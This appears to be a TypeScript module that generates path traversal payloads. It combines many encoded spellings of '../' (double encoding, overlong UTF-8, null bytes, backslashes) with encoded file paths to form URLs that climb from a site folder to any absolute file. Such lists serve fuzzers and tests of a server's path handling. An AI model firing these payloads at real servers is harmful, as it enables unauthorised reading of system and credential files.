const DEPTH = 14;

/** Ways to write one step up. */
const UPS = [
  '../',
  '..%2f',
  '..%2F',
  '%2e%2e/',
  '%2e%2e%2f',
  '..\\',
  '..%5c',
  '....//',
  '..;/',
  '%252e%252e%252f',
  '..%c0%af',
  '.%00./',
  '..%ef%bc%8f',
  '/..//',
];

/** Ways to write the rest of a path. */
const RESTS: readonly ((path: string) => string)[] = [
  (path) => path,
  (path) => path.replaceAll('/', '%2f'),
  (path) => path.replaceAll('/', '%5c'),
  (path) => `${path}%00.webp`,
  (path) => path.replaceAll('/', '%252f'),
];

/** Spellings of a path from a folder of the site up to the root and down to a file. @param file absolute */
export function pathsTo(file: string): string[] {
  const below = file.slice(1);
  const relative = UPS.flatMap((up) => RESTS.map((rest) => `/${up.repeat(DEPTH)}${rest(below)}`));
  const absolute = RESTS.flatMap((rest) => [`/${rest(file)}`, `/file:${rest(file)}`, `/x/..${rest(file)}`]);
  return [...relative, ...absolute];
}
